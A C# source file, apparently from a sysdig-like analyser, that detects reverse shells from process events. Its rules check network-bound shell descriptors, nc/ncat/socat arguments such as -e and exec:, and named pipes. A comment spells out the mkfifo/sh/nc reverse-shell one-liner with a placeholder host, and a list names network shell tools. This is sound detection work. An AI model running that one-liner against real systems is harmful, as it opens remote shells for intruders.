using CSysdig.Model.State;
using CSysdig.Model.Story.Findings;
using CSysdig.Model.Story.Names;
using CSysdig.Model.Story.Sessions;
using CSysdig.Model.Text;
using static CSysdig.Model.Story.Findings.FindingKind;

namespace CSysdig.Model.Story.Rules;

/// <summary>Shells that somebody types into over a connection: their own input and output, or through a program between.</summary>
sealed class ShellRules(FindingBook book, Controls controls)
{
    const int MostPipes = 100;

    static readonly HashSet<byte[]> s_cats = Trades.Names("nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "telnet");

    readonly HashSet<byte[]> _pipes = new(ByteKey.Comparer);

    /// <summary>A program was started, by whomever.</summary>
    public void Ran(Event e, ThreadInfo thread, FindingGroup group, ulong time)
    {
        if (Programs.IsShell(thread.Comm))
            Shell(e, thread, group, time);
        else if (Trades.Contains(s_cats, thread.Comm) ? HandsOn(thread) || WritesToPipe(e) : thread.Comm.AsSpan().SequenceEqual("socat"u8) && Starts(thread))
            book.Note(ReverseShell, Deed.Of(group, e, thread, time), thread.ExeLine, isGrave: true);
        else if (thread.Comm.AsSpan().SequenceEqual("mkfifo"u8) || thread.Comm.AsSpan().SequenceEqual("mknod"u8))
            Piped(thread);
    }

    void Shell(Event e, ThreadInfo thread, FindingGroup group, ulong time)
    {
        if (e.FindFd(0) is not { } input || e.FindFd(1) is not { } output || !TrafficWatch.IsInternet(input) || !TrafficWatch.IsInternet(output))
            return;
        // rshd and inetd do so by their nature, with connections that they took.
        if (!input.IsClient && e.Parent is { } parent && Trades.StartsOthers(parent.Comm))
            return;
        controls.Add(output.OpenedAt);
        book.Note(ReverseShell, Deed.Of(group, e, thread, time), output.Name, isGrave: true);
    }

    // mkfifo /tmp/f; sh < /tmp/f | nc HOST PORT > /tmp/f
    void Piped(ThreadInfo thread)
    {
        var args = thread.Args.AsSpan();
        foreach (var range in args.Split((byte)0))
            if (args[range] is [not (byte)'-', _, ..] word && _pipes.Count < MostPipes)
                _pipes.Add(word[0] == '/' ? word.ToArray() : [.. thread.Cwd.AsSpan().TrimEnd((byte)'/'), (byte)'/', .. word]);
    }

    bool WritesToPipe(Event e) => e.FindFd(1) is { Name.Length: > 0 } output && _pipes.Contains(output.Name);

    /// <summary>nc is told to start a shell at the end of the connection.</summary>
    static bool HandsOn(ThreadInfo thread) => NamesShell(thread, "") && (Scripts.HasWord(thread, "-e"u8) || Scripts.HasWord(thread, "-c"u8) || Scripts.HasWord(thread, "--exec"u8) || Scripts.HasWord(thread, "--sh-exec"u8));

    /// <summary>So is socat, by an address of its own kind.</summary>
    static bool Starts(ThreadInfo thread) => NamesShell(thread, "exec:") || NamesShell(thread, "system:");

    /// <summary>One of a process's arguments is a shell: its name or path, and what else belongs to it.</summary>
    static bool NamesShell(ThreadInfo thread, ReadOnlySpan<char> before)
    {
        var args = thread.Args.AsSpan();
        foreach (var range in args.Split((byte)0))
        {
            var word = args[range];
            if (word.Length <= before.Length || !System.Text.Ascii.EqualsIgnoreCase(word[..before.Length], before))
                continue;
            var program = word[before.Length..];
            if (program.IndexOfAny((byte)' ', (byte)',') is >= 0 and var end)
                program = program[..end];
            if (Programs.IsShell(NameFit.Base(program.Trim((byte)'\''))))
                return true;
        }
        return false;
    }
}
